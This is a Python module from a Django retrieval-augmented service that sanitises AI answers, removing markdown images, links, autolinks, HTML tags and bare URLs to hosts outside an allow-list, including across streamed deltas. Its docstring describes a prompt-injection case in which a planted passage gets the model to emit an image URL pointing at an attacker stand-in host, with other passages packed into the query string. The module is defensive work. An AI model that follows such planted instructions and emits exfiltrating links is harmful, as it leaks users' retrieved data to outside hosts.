"""Answers safe to render anywhere: images and links to hosts not on the allow-list are removed.

A planted passage can ask the model for `![x](https://evil.example/?q=<other passages>)`; a client that
renders markdown would fetch it and hand the passages to that host. So every answer (JSON, the SSE stream,
`/v1`) goes through `AnswerSanitiser`:

* `![alt](url)` to a host not allowed disappears, `[text](url)` keeps its text only;
* reference definitions (`[ref]: url`) and autolinks (`<https://...>`) to such hosts disappear;
* raw HTML tags (`<img src=...>`) disappear: answers are markdown and never need them;
* bare URLs (`https://...`, `www....`) to such hosts disappear.

Allowed: relative links (this service's own pages) and http(s) URLs whose host is in
settings.RAG_ANSWER_LINK_HOSTS. Anything that only browsers would read as an absolute URL (`//host`,
`https:\\\\host`, `https:host`) counts as one. The filter is one pass over the characters with a bounded
hold-back, so it runs in linear time on any text, and a construct split across stream deltas is held until it
completes: the streamed text equals the sanitised whole text, however it is split.
"""

from __future__ import annotations

import html
import re
from collections import deque
from collections.abc import Iterable

from django.conf import settings

MAX_LABEL = 1000  # an open `[` further back than this is plain text (markdown renderers cap labels too)
MAX_DEST = 2048  # a destination longer than this is dropped rather than held
MAX_TAG = 512  # a `<` with no `>` within this many characters is plain text
MAX_WORD = 2048  # bare-URL checks look at whitespace-separated words cut to this length

_SCHEME_RE = re.compile(r"[a-z][a-z0-9+.-]{0,31}:")
# Starts of bare URLs in text: scheme:// (or backslashes, which browsers read as slashes) and www.
_BARE_URL_RE = re.compile(r"(?i)(?<![a-z0-9+.-])(?:[a-z][a-z0-9+.-]{0,31}:[/\\]{2}|www\.)")
_URL_END_RE = re.compile(r"[<>\"'`]")
_TRAILING_PUNCTUATION = ".,:;!?)]*_~'\""
_WHITESPACE_RE = re.compile(r"\s")
_ESCAPED_RE = re.compile(r"\\([!-/:-@\[-`{-~])")  # CommonMark's backslash-escapable ASCII punctuation
_TEXT, _AFTER_LABEL, _DEST, _TAG = range(4)


def _host_of(rest: str) -> str:
    """Host of what follows `scheme:` in a special-scheme URL, as a browser reads it."""
    rest = rest.lstrip("/\\")
    authority = re.split(r"[/\\?#]", rest, maxsplit=1)[0]
    host = authority.rsplit("@", 1)[-1]
    if host.startswith("["):
        return host.split("]", 1)[0] + "]"
    return host.split(":", 1)[0].rstrip(".")


def _unescape_variants(text: str) -> set[str]:
    """`text` as a markdown renderer may read it: backslash escapes and HTML entities (`&#104;ttps`,
    `https\\://`) resolved, in either order."""
    unslashed = _ESCAPED_RE.sub(r"\1", text)
    return {
        text,
        unslashed,
        html.unescape(text),
        html.unescape(unslashed),
        _ESCAPED_RE.sub(r"\1", html.unescape(text)),
    }


def url_allowed(url: str, allowed_hosts: Iterable[str]) -> bool:
    """Relative URLs, and http(s) URLs to an allowed host; nothing else (no other scheme, no other host).
    Every way a renderer may unescape the URL must be allowed."""
    return all(_url_allowed_plain(variant, allowed_hosts) for variant in _unescape_variants(url))


def _url_allowed_plain(url: str, allowed_hosts: Iterable[str]) -> bool:
    # Browsers drop ASCII whitespace and control characters inside URLs before parsing them.
    url = "".join(ch for ch in url.strip().strip("<>") if ch > " ").lower()
    if url.startswith(("//", "\\\\", "/\\", "\\/")):
        return _host_of(url) in allowed_hosts
    scheme = _SCHEME_RE.match(url)
    if scheme is None:
        return True  # a path, `?query` or `#fragment` of the page the answer is shown on
    if scheme.group() not in ("http:", "https:"):
        return False
    return _host_of(url[scheme.end() :]) in allowed_hosts


class _Links:
    """Markdown links, images, reference definitions and HTML tags, one character at a time."""

    def __init__(self, allowed: frozenset[str]):
        self.allowed = allowed
        self.state = _TEXT
        self.hold: list[str] = []  # from the oldest open `[` that may still be a label
        self.opens: deque[tuple[int, bool]] = deque()  # (index in hold, is an image) of open labels
        self.closed: tuple[int, bool] = (0, False)  # the label just closed (AFTER_LABEL, DEST)
        self.bang = False  # a `!` held until we know whether an image starts
        self.buf: list[str] = []  # the destination or the tag being read
        self.kind = ""  # "inline" `(url "title")` or "definition" `: url`
        self.url: list[str] = []  # the destination's URL as it arrives
        self.angle = False  # the URL is written `<...>`
        self.depth = 0  # parentheses open in the URL
        self.url_done = False  # the URL is complete; an inline destination waits for its `)`

    def _put(self, out: list[str], text: str) -> None:
        (self.hold if self.hold else out).append(text)

    def _release(self, out: list[str]) -> None:
        """No label is open any more: what was held is final."""
        if not self.opens and self.hold:
            out.append("".join(self.hold))
            self.hold.clear()

    def feed(self, text: str) -> str:
        out: list[str] = []
        for ch in text:
            self._step(ch, out)
        return "".join(out)

    def flush(self) -> str:
        out: list[str] = []
        if self.state == _DEST:
            if self.kind == "definition" and self.url and not self.angle:
                self._dest_end(out, url_allowed("".join(self.url), self.allowed))
            else:
                self._dest_end(out, False)  # an unfinished `](...`: dropped rather than guessed at
        elif self.state == _TAG:
            self._tag_abandon(out)
        if self.bang:
            self.bang = False
            self._put(out, "!")
        self.state = _TEXT
        self.opens.clear()
        self._release(out)
        return "".join(out)

    def _step(self, ch: str, out: list[str]) -> None:
        if self.state == _AFTER_LABEL:
            if ch == "(":
                self._dest_start("inline", ch)
                return
            if ch == ":" and not self.closed[1]:
                self._dest_start("definition", ch)
                return
            self.state = _TEXT
            self._release(out)
        elif self.state == _DEST:
            self._dest_step(ch, out)
            return
        elif self.state == _TAG:
            self._tag_step(ch, out)
            return
        self._text_step(ch, out)

    def _text_step(self, ch: str, out: list[str]) -> None:
        if self.bang:
            self.bang = False
            if ch == "[":
                self.opens.append((len(self.hold), True))
                self.hold.append("![")
                return
            self._put(out, "!")
        if ch == "!":
            self.bang = True
        elif ch == "[":
            self.opens.append((len(self.hold), False))
            self.hold.append("[")
        elif ch == "]":
            # A `]` with no open label still guards what follows (`](url)` after a label we let go).
            self.closed = self.opens.pop() if self.opens else (len(self.hold), False)
            self.hold.append("]")
            self.state = _AFTER_LABEL
        elif ch == "<":
            self.state, self.buf = _TAG, ["<"]
        else:
            self._put(out, ch)
        if self.opens and len(self.hold) - self.opens[0][0] > MAX_LABEL:
            # Held too long to be a label: the oldest open `[` is plain text.
            self.opens.popleft()
            self._release(out)

    # -- destinations: `(url "title")` after a label, or `: url` after a reference label --

    def _dest_start(self, kind: str, ch: str) -> None:
        self.state, self.kind, self.buf, self.url = _DEST, kind, [ch], []
        self.angle, self.depth, self.url_done = False, 0, False

    def _dest_step(self, ch: str, out: list[str]) -> None:
        self.buf.append(ch)
        if len(self.buf) > MAX_DEST:
            self._dest_end(out, False)
        elif self.url_done:
            if ch == ")":  # after the URL and an optional title
                self._dest_end(out, url_allowed("".join(self.url), self.allowed))
        elif not self.url and ch in " \t\n":
            pass  # spaces before the URL
        elif self.angle or (not self.url and ch == "<"):
            self.angle = True
            self.url.append(ch)
            if ch == ">" and len(self.url) > 1:
                self.url_done = True
                if self.kind == "definition":
                    self._dest_end(out, url_allowed("".join(self.url), self.allowed))
        elif ch in " \t\n" or (ch == ")" and self.depth == 0 and self.kind == "inline"):
            self.url_done = True
            if self.kind == "definition" or ch == ")":
                self._dest_end(out, url_allowed("".join(self.url), self.allowed), closer=ch)
        else:
            self.url.append(ch)
            self.depth += (ch == "(") - (ch == ")")

    def _dest_end(self, out: list[str], allowed: bool, closer: str = "") -> None:
        index, image = self.closed
        if allowed:
            self.hold.extend(self.buf)
        else:
            keep_label = self.kind == "inline" and not image
            label = "".join(self.hold[index + 1 : -1]) if keep_label else ""
            del self.hold[index:]
            self.hold.append(label)
            if self.kind == "definition" and closer:
                self.hold.append(closer)
        self.buf, self.url = [], []
        self.state = _TEXT
        self._release(out)

    # -- `<...>`: autolinks are checked, raw HTML tags are dropped --

    def _tag_step(self, ch: str, out: list[str]) -> None:
        if len(self.buf) == 1 and not (ch.isalpha() or ch in "/!?"):
            self._tag_abandon(out)
            self._step(ch, out)
            return
        if ch == "<":
            self._tag_abandon(out)
            self._step(ch, out)
            return
        self.buf.append(ch)
        if ch == ">":
            tag = "".join(self.buf)
            inner = tag[1:-1]
            autolink = _SCHEME_RE.match(inner.lower()) and not _WHITESPACE_RE.search(inner)
            self.state, self.buf = _TEXT, []
            if autolink and url_allowed(inner, self.allowed):
                self._put(out, tag)
        elif len(self.buf) > MAX_TAG:
            self._tag_abandon(out)

    def _tag_abandon(self, out: list[str]) -> None:
        """Not a tag after all: its `<` is text and the rest is read again (it holds no `<`, so no character
        is read again twice)."""
        text, self.buf, self.state = "".join(self.buf), [], _TEXT
        self._put(out, "<")
        for ch in text[1:]:
            self._step(ch, out)


class _BareUrls:
    """Bare URLs to hosts not allowed, checked a whitespace-separated word at a time."""

    def __init__(self, allowed: frozenset[str]):
        self.allowed = allowed
        self.word: list[str] = []
        self.length = 0

    def _scrub(self, word: str) -> str:
        if "&" in word or "\\" in word:
            # An escaped URL (`https&#58;//...`) is a URL once rendered: judge every unescaped reading,
            # and drop the whole word when one of them holds a URL that is not allowed.
            for variant in _unescape_variants(word):
                if variant != word and self._scrub_plain(variant) != variant:
                    return ""
        return self._scrub_plain(word)

    def _scrub_plain(self, word: str) -> str:
        parts, pos = [], 0
        for match in _BARE_URL_RE.finditer(word):
            if match.start() < pos:
                continue
            end_match = _URL_END_RE.search(word, match.end())
            end = end_match.start() if end_match else len(word)
            while end > match.end() and word[end - 1] in _TRAILING_PUNCTUATION:
                end -= 1
            url = word[match.start() : end]
            if url.lower().startswith("www."):
                url = "http://" + url
            parts.append(word[pos : match.start()])
            if url_allowed(url, self.allowed):
                parts.append(word[match.start() : end])
            pos = end
        parts.append(word[pos:])
        return "".join(parts)

    def _word_end(self, out: list[str]) -> None:
        if self.word:
            out.append(self._scrub("".join(self.word)))
            self.word, self.length = [], 0

    def feed(self, text: str) -> str:
        out: list[str] = []
        pos = 0
        while pos < len(text):
            room = MAX_WORD - self.length
            space = _WHITESPACE_RE.search(text, pos, pos + room)  # never further than a word can be
            end = space.start() if space else min(len(text), pos + room)
            if space is None and end - pos >= room:
                self.word.append(text[pos : pos + room])
                self.length = MAX_WORD
                self._word_end(out)
                pos += room
                continue
            self.word.append(text[pos:end])
            self.length += end - pos
            if space is None:
                break
            self._word_end(out)
            out.append(space.group())
            pos = end + 1
        return "".join(out)

    def flush(self) -> str:
        out: list[str] = []
        self._word_end(out)
        return "".join(out)


class AnswerSanitiser:
    """Feed answer text (whole or in deltas); get back the text without images and links to other hosts.

    `allowed_hosts` defaults to settings.RAG_ANSWER_LINK_HOSTS.
    """

    def __init__(self, allowed_hosts: Iterable[str] | None = None):
        if allowed_hosts is None:
            allowed_hosts = getattr(settings, "RAG_ANSWER_LINK_HOSTS", ())
        allowed = frozenset(h.strip().lower() for h in allowed_hosts if h.strip())
        self._links = _Links(allowed)
        self._bare = _BareUrls(allowed)

    def feed(self, text: str) -> str:
        return self._bare.feed(self._links.feed(text))

    def flush(self) -> str:
        return self._bare.feed(self._links.flush()) + self._bare.flush()


def answer_sanitise(text: str, allowed_hosts: Iterable[str] | None = None) -> str:
    """`text` without images and links to hosts not allowed (see the module notes)."""
    sanitiser = AnswerSanitiser(allowed_hosts)
    return sanitiser.feed(text) + sanitiser.flush()
